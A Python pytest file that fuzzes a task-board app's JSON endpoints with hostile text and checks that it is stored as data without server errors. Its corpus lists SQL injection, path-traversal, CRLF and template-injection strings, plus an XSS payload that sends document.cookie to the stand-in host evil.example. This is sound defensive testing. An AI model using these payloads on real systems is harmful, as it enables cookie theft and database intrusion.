"""Hostile text in every text field of every JSON create/update endpoint: kept as data, never a 500.

The fields come from the OpenAPI schema, so a new endpoint or field is covered without editing this file;
the base bodies are the policy table's. Runs on every database backend (each stores text its own way).
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from orbitask.config import Settings
from tests.conftest import Api, User, assert_problem
from tests.security.authz_table import TABLE
from tests.security.world import fill

CORPUS: dict[str, str] = {
    "sqli-quote": "' OR '1'='1' --",
    "sqli-drop": "Robert'); DROP TABLE card;--",
    "sqli-union": '" UNION SELECT password_hash, email FROM "user" --',
    "sqli-comment": "1; SELECT pg_sleep(5); /* */ -- ` \\",
    "xss-script": "<script>alert(document.cookie)</script>",
    "xss-attr": '"><img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    "xss-url": "javascript:alert(1)//",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "traversal": "../../../../etc/passwd",
    "traversal-win": "..\\..\\..\\windows\\win.ini",
    "traversal-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "crlf": "x\r\nSet-Cookie: session=evil\r\nX-Injected: 1",
    "crlf-encoded": "%0d%0aLocation: https://evil.example/",
    "rtl-override": "invoice\u202efdp.exe",
    "zero-width": "a\u200bb\u200dc\ufeffd",
    "combining": "Z\u0351\u0364\u0300\u0301\u0302a\u0303\u0304\u0305lgo",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f680" * 20,
    "astral-long": "\U0001d54f" * 5000,
    "percent-format": "%s %d %n %x {0} {name!r}",
    "json-ish": '{"$ne": null, "__proto__": {"admin": true}}',
}
REFUSED: dict[str, str] = {  # no database keeps these faithfully: refused with 422, naming the field
    "nul": "a\x00b",
    "surrogate": "lone \ud800 surrogate",
}
OVERSIZED = "\U0001d54f" * 60_000  # 720 kB as escaped JSON: under the body limit, over every length limit
# fields whose value is a credential or a reference: never echoed back
NOT_ECHOED = {"password", "refresh_token", "ticket", "filename", "invitation"}  # (an unknown invitation is a 404)
CARD_TITLE = ("POST", "/api/v1/lists/{list_id}/cards", "title")
SKIP_ROUTES = {"/api/v1/auth/login", "/api/v1/auth/refresh", "/api/v1/auth/logout",  # nothing stored
               "/api/v1/auth/password",  # checks the current password first: hostile text is a wrong one (403)
               # link tokens, looked up by their hash: hostile text is a link that is gone (410, 400)
               "/api/v1/auth/verify", "/api/v1/auth/password-reset/confirm", "/api/v1/auth/email/confirm"}


def _resolve(schema: dict[str, Any], spec: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return schema


def _is_free_text(prop: dict[str, Any], spec: dict[str, Any]) -> bool:
    options = [_resolve(p, spec) for p in prop.get("anyOf", [prop])]
    return any(o.get("type") == "string" and not ({"format", "enum", "pattern", "const"} & set(o)) for o in options)


def text_fields(spec: dict[str, Any]) -> list[tuple[str, str, str]]:
    """(method, path template, field) for every free-text property of every JSON request body."""
    found = []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            body = op.get("requestBody", {}).get("content", {}).get("application/json")
            if method not in {"post", "put", "patch"} or body is None or path in SKIP_ROUTES:
                continue
            schema = _resolve(body["schema"], spec)
            for name, prop in schema.get("properties", {}).items():
                if _is_free_text(prop, spec):
                    found.append((method.upper(), path, name))
    return sorted(found)


def _contains(data: Any, value: str) -> bool:
    if isinstance(data, str):
        return data == value
    if isinstance(data, dict):
        return any(_contains(v, value) for v in data.values())
    if isinstance(data, list):
        return any(_contains(v, value) for v in data)
    return False


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """Sign-up limits off: the corpus registers a user per hostile name."""
    return settings.model_copy(update={"rate_limit_signup_per_minute": 0})


async def _world(api: Api) -> tuple[User, dict[str, str]]:
    alice = await api.user("Alice")
    member = await api.user("Mia")
    await api.join(alice, member, "member")
    board = await api.board(alice, name="Plans")
    todo = await api.list(alice, board["id"])
    label = await api.ok(alice, "POST", f"/boards/{board['id']}/labels", json={"name": "bug", "color": "red"})
    card = await api.card(alice, todo["id"], "Launch")
    comment = await api.ok(alice, "POST", f"/cards/{card['id']}/comments", json={"body": "first"})
    checklist = await api.ok(alice, "POST", f"/cards/{card['id']}/checklists", json={"title": "Steps"})
    item = await api.ok(alice, "POST", f"/checklists/{checklist['id']}/items", json={"text": "one"})
    webhook = await api.ok(alice, "POST", f"/workspaces/{alice.workspace_id}/webhooks",
                           json={"url": "http://93.184.216.34/hook"})  # a public address: no DNS needed
    ids = {"webhook_id": webhook["id"], "workspace_id": str(alice.workspace_id), "board_id": board["id"], "list_id": todo["id"],
           "card_id": card["id"], "label_id": label["id"], "comment_id": comment["id"],
           "checklist_id": checklist["id"], "item_id": item["id"], "member_id": str(member.id),
           "viewer_id": str(member.id), "guest_id": str(member.id), "owner_id": str(alice.id)}
    return alice, ids


async def test_hostile_text_is_stored_verbatim_and_never_breaks_the_server(api: Api, app: Any) -> None:
    spec = app.openapi()
    fields = text_fields(spec)
    names = {f"{m} {p} {f}" for m, p, f in fields}
    assert {"POST /api/v1/lists/{list_id}/cards title", "PATCH /api/v1/cards/{card_id} description",
            "POST /api/v1/cards/{card_id}/comments body"} <= names, names
    alice, ids = await _world(api)
    failures: list[str] = []
    accepted: set[str] = set()
    for method, template, field in fields:
        entry = TABLE[(method, template)]
        path = fill(template, {**ids, **{k: ids[v] for k, v in entry.path.items()}}).removeprefix("/api/v1")
        for label, value in [*CORPUS.items(), *REFUSED.items(), ("oversized", OVERSIZED)]:
            body = {**fill(entry.json or {}, ids), field: value}
            if template.endswith("/auth/register"):
                body["email"] = fill("{fresh_email}", {})
            # ASCII-escaped JSON, as a hostile client may send it: "\ud800" arrives as a lone surrogate
            r = await api.call(alice, method, path, content=json.dumps(body),
                               headers={"Content-Type": "application/json"})
            where = f"{method} {template} {field} <- {label}"
            named = r.status_code == 422 and field in r.json()["detail"]  # a declared limit, naming the field
            if r.status_code >= 500:
                failures.append(f"{where}: {r.status_code} {r.text[:200]}")
            elif label in REFUSED:
                if not named:
                    failures.append(f"{where}: expected 422 naming the field, got {r.status_code} {r.text[:200]}")
            elif r.status_code < 300:
                assert r.headers["content-type"].startswith("application/json"), where
                assert "evil" not in str(r.headers.get("set-cookie")) and "x-injected" not in r.headers, where
                if field not in NOT_ECHOED and not _contains(r.json(), value):
                    failures.append(f"{where}: {r.status_code} but the value did not come back verbatim")
                if (method, template, field) == CARD_TITLE:
                    accepted.add(value)
            elif not named and r.status_code != 409 and field not in NOT_ECHOED:
                failures.append(f"{where}: refused {r.status_code} {r.text[:200]}")
    assert not failures, "\n".join(failures)

    # everything that went in reads back as data: the board, its search, its exports
    snap = await api.ok(alice, "GET", f"/boards/{ids['board_id']}")
    assert len(accepted) >= len(CORPUS) - 1
    assert accepted <= {c["title"] for c in snap["cards"]}
    for query in (CORPUS["sqli-quote"], CORPUS["sqli-union"], "%", "_", "\\"):
        r = await api.call(alice, "GET", f"/boards/{ids['board_id']}/cards", params={"q": query})
        assert r.status_code == 200, (query, r.text)
    hits = await api.ok(alice, "GET", f"/boards/{ids['board_id']}/cards", params={"q": "DROP TABLE"})
    assert [c["title"] for c in hits["items"]] == [CORPUS["sqli-drop"]]
    for fmt in ("json", "csv"):
        r = await api.call(alice, "GET", f"/boards/{ids['board_id']}/export", params={"format": fmt})
        assert r.status_code == 200, r.text
        assert "<script>alert(document.cookie)</script>" in r.text


async def test_nul_in_a_search_is_refused_like_nul_in_a_body(api: Api) -> None:
    alice, ids = await _world(api)
    r = await api.call(alice, "GET", f"/boards/{ids['board_id']}/cards", params={"q": REFUSED["nul"]})
    body = assert_problem(r, 422, "invalid-input")
    assert body["errors"] == [{"field": "query.q", "message": "must not contain NUL (\\u0000) characters",
                               "code": "value_error"}], body
